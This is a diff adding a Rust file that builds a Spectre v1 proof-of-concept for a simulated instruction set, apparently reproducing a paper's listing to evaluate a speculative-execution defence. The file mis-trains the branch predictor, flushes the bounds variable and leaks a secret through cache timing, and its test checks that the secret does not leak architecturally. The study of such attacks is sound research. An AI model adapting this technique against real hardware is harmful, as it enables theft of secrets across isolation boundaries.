@@ -1,0 +1,101 @@
+//! Spectre v1 with the d-cache covert channel — the paper's Listing 1.
+//!
+//! The victim bounds-checks an index before using it; the attacker
+//! mis-trains the direction predictor with in-bounds calls (using the
+//! branchless input selector so branch history is identical), flushes
+//! `array_size` to widen the speculation window, then calls with an
+//! out-of-bounds index that reaches the secret. The wrong path loads the
+//! secret and touches `probe[secret * 512]`; the recover loop times every
+//! probe slot.
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// Training+attack rounds (7 training calls, then 1 malicious, repeated).
+const ROUNDS: u64 = 32;
+
+/// Build the attack program for `secret`.
+pub fn program(secret: u8) -> Program {
+    let mut asm = Asm::new();
+    let victim = asm.new_label();
+    let main = asm.new_label();
+    asm.jmp(main);
+
+    // --- victim(x in X2): Listing 1 lines 5-9 -------------------------
+    asm.bind(victim);
+    let vout = asm.new_label();
+    asm.li(Reg::X3, ARRAY_SIZE_ADDR);
+    asm.ld8(Reg::X4, Reg::X3, 0); // slow when flushed: the window
+    asm.bgeu(Reg::X2, Reg::X4, vout); // bounds check (the steered branch)
+    asm.li(Reg::X5, ARRAY_BASE);
+    asm.add(Reg::X5, Reg::X5, Reg::X2);
+    asm.ld1(Reg::X6, Reg::X5, 0); // phase 1: access array[x]
+    asm.shli(Reg::X6, Reg::X6, 9); // pre-process: *512
+    asm.li(Reg::X7, PROBE_BASE);
+    asm.add(Reg::X7, Reg::X7, Reg::X6);
+    asm.ld1(Reg::X8, Reg::X7, 0); // phase 2: transmit via d-cache
+    asm.bind(vout);
+    asm.ret();
+
+    // --- main ----------------------------------------------------------
+    asm.bind(main);
+    util::emit_probe_flush(&mut asm);
+    // Warm the secret's line so the wrong-path dependence chain fits in
+    // the speculation window (PoCs arrange this via repetition; one
+    // explicit warm-up keeps the program deterministic).
+    asm.li(Reg::X2, SECRET_ADDR);
+    asm.ld1(Reg::X3, Reg::X2, 0);
+    asm.fence();
+
+    // Attack loop: rounds of 7 training calls + 1 malicious call.
+    let atk = asm.new_label();
+    asm.li(Reg::X9, 0);
+    asm.bind(atk);
+    // Serialise each round so every earlier training has committed (and
+    // trained the direction predictor) before the next bounds check is
+    // fetched — keeps the mis-training deterministic across core models.
+    asm.fence();
+    util::emit_select_input(&mut asm, Reg::X9, MAL_INDEX, Reg::X2);
+    // Flush array_size so the bounds check resolves late.
+    asm.li(Reg::X3, ARRAY_SIZE_ADDR);
+    asm.clflush(Reg::X3, 0);
+    asm.call(victim);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    asm.li(Reg::X26, ROUNDS);
+    asm.bltu(Reg::X9, Reg::X26, atk);
+
+    // Phase 3: recover.
+    util::emit_recover(&mut asm);
+    asm.halt();
+
+    let mut p = asm.assemble().expect("spectre v1 assembles");
+    p.data.push(nda_isa::DataInit {
+        addr: ARRAY_SIZE_ADDR,
+        bytes: ARRAY_LEN.to_le_bytes().to_vec(),
+    });
+    // In-bounds array contents: a constant decoy value distinct from any
+    // secret the tests use.
+    p.data.push(nda_isa::DataInit { addr: ARRAY_BASE, bytes: vec![200u8; ARRAY_LEN as usize] });
+    p.data.push(nda_isa::DataInit { addr: SECRET_ADDR, bytes: vec![secret] });
+    p
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn architectural_execution_never_reads_the_secret() {
+        let p = program(42);
+        let mut i = Interp::new(&p);
+        let exit = i.run(10_000_000).expect("halts with no fault");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, 0);
+        // Architecturally the malicious calls take the out-of-bounds exit;
+        // nothing derived from the secret reaches registers. X6 holds the
+        // last in-bounds (decoy) preprocessed value or the warmup residue.
+        assert_ne!(i.reg(Reg::X6), (42u64) << 9, "secret must not leak architecturally");
+    }
+}
